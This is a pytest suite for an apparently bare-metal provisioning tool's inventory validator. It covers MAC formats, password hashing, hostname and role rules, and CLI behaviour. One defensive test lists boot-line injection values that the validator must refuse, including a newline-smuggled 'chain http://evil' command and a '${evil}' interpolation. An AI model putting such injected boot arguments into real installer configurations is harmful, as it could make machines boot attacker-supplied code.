"""Inventory validation: every bad input is reported at once, naming its field and line."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from seedbed.cli import main
from seedbed.inventory import InventoryError, load_inventory, normalize_mac, parse_inventory
from seedbed.resources import default_inventory
from support import inventory_data, inventory_of, write_inventory


def problems_of(data: dict) -> list[str]:
    with pytest.raises(InventoryError) as info:
        parse_inventory(yaml.safe_dump(data, sort_keys=False))
    return [str(p) for p in info.value.problems]


def test_example_inventory_is_valid() -> None:
    loaded = load_inventory(default_inventory())
    assert [n.hostname for n in loaded.inventory.nodes] == ["gpu01", "gpu02", "gpu03", "gpu04"]
    # gpu03 and gpu04 show the size selectors, which could pick a USB stick.
    assert [(w.path, w.severity) for w in loaded.warnings] == [
        ("nodes[2].disk", "warning"), ("nodes[3].disk", "warning")]


@pytest.mark.parametrize("raw", ["52:54:00:AB:cd:01", "52-54-00-ab-CD-01", "525400abcd01"])
def test_mac_forms_are_normalised(raw: str) -> None:
    assert normalize_mac(raw) == "52:54:00:ab:cd:01"


@pytest.mark.parametrize("raw", ["52:54:00:ab:cd", "52:54-00:ab:cd:01", "zz:54:00:ab:cd:01", ""])
def test_malformed_macs_are_refused(raw: str) -> None:
    with pytest.raises(ValueError, match="malformed MAC"):
        normalize_mac(raw)


def test_plaintext_password_is_hashed_and_dropped() -> None:
    inv = inventory_of(inventory_data())
    assert inv.admin.password is None
    assert inv.admin.password_hash.startswith("$6$")
    assert "s3cret-admin-pw" not in inv.model_dump_json()
    from passlib.hash import sha512_crypt

    assert sha512_crypt.verify("s3cret-admin-pw", inv.admin.password_hash)


def test_every_problem_is_reported_at_once_with_field_and_line() -> None:
    data = inventory_data()
    data["nodes"][0]["hostnme"] = "typo"  # unknown key
    data["nodes"][1]["ip"] = "10.99.0.5"  # outside the subnet
    data["nodes"].append({"hostname": "gpu03", "macs": ["52:54:00:00:00:02"],  # duplicate MAC
                          "ip": "10.20.0.23", "roles": ["worker", "master"]})  # bad role
    data["nodes"].append({"hostname": "gpu04", "macs": ["52:54:00:00:00:02"], "ip": "10.20.0.24",
                          "roles": ["worker"]})
    found = problems_of(data)
    text = "\n".join(found)
    assert "nodes[0].hostnme: unknown key 'hostnme'" in text
    assert "nodes[2].roles[1]: 'master' is not allowed" in text
    assert "nodes[1].ip: 10.99.0.5 is outside the subnet" in text
    assert "nodes[3].macs[0]: MAC 52:54:00:00:00:02 is already used by nodes[1]" in text
    assert len(found) == 4, found
    assert all("line " in p for p in found), found


def test_cross_field_rules_name_the_field() -> None:
    data = inventory_data()
    data["nodes"][1]["macs"] = ["52:54:00:00:00:01"]
    data["nodes"][1]["ip"] = "10.99.0.5"
    data["nodes"].append({"hostname": "gpu01", "macs": ["52:54:00:00:00:03"], "ip": "10.20.0.21",
                          "roles": ["worker"]})
    text = "\n".join(problems_of(data))
    assert "nodes[1].macs[0]: MAC 52:54:00:00:00:01 is already used by nodes[0]" in text
    assert "nodes[1].ip: 10.99.0.5 is outside the subnet 10.20.0.0/24" in text
    assert "nodes[2].hostname: 'gpu01' duplicates nodes[0]" in text
    assert "nodes[2].ip: 10.20.0.21 duplicates nodes[0]" in text


@pytest.mark.parametrize("hostname", ["GPU01", "gpu_01", "-gpu", "gpu.lab", "a" * 64])
def test_hostname_must_be_lower_case_rfc1123_label(hostname: str) -> None:
    data = inventory_data()
    data["nodes"][0]["hostname"] = hostname
    assert any("nodes[0].hostname" in p and "RFC 1123" in p for p in problems_of(data))


def test_cluster_needs_every_role() -> None:
    data = inventory_data()
    data["nodes"][0]["roles"] = ["worker"]
    text = "\n".join(problems_of(data))
    assert "no node has the role controlplane" in text
    assert "no node has the role etcd" in text


def test_even_etcd_count_is_a_warning_not_an_error() -> None:
    data = inventory_data()
    data["nodes"][1]["roles"] = ["etcd", "worker"]
    loaded = parse_inventory(yaml.safe_dump(data))
    assert [w.severity for w in loaded.warnings] == ["warning"]
    assert "2 etcd nodes" in loaded.warnings[0].message


def test_duplicate_yaml_keys_are_errors() -> None:
    text = yaml.safe_dump(inventory_data(), sort_keys=False)
    text = text.replace("site:\n", "site:\n  domain: other.test\n", 1)
    with pytest.raises(InventoryError) as info:
        parse_inventory(text)
    assert any(p.message == "duplicate key" and p.path == "site.domain" for p in info.value.problems)


def test_password_and_hash_are_exclusive() -> None:
    data = inventory_data()
    data["admin"]["password_hash"] = "$6$abc$def"
    assert any("exactly one of password" in p for p in problems_of(data))


@pytest.mark.parametrize("field,value", [
    ("iso", "http://nas/focal.iso autoinstall=0"),
    ("kernel", "ubuntu/vmlinuz${evil}"),
    ("cmdline", "quiet\nchain http://evil"),
])
def test_boot_line_values_cannot_smuggle_arguments(field: str, value: str) -> None:
    data = inventory_data()
    data["installer"][field] = value
    assert any(f"installer.{field}" in p for p in problems_of(data))


def test_cli_validate_reports_and_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    data = inventory_data()
    data["nodes"][1]["macs"] = ["not-a-mac"]
    path = write_inventory(tmp_path / "bad.yaml", data)
    assert main(["validate", str(path)]) == 1
    err = capsys.readouterr().err
    assert "nodes[1].macs" in err and "malformed MAC" in err and "line " in err


def test_cli_validate_accepts_good_inventory(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = write_inventory(tmp_path / "good.yaml", inventory_data())
    assert main(["validate", str(path)]) == 0
    assert "OK, 2 nodes" in capsys.readouterr().out


def test_bad_inventory_changes_no_state(tmp_path: Path) -> None:
    data = inventory_data()
    data["nodes"][0]["gpus"] = -1
    path = write_inventory(tmp_path / "bad.yaml", data)
    assert main(["nodes", "--inventory", str(path), "--state", str(tmp_path / "state")]) == 1
    assert not (tmp_path / "state" / "seedbed.sqlite3").exists()
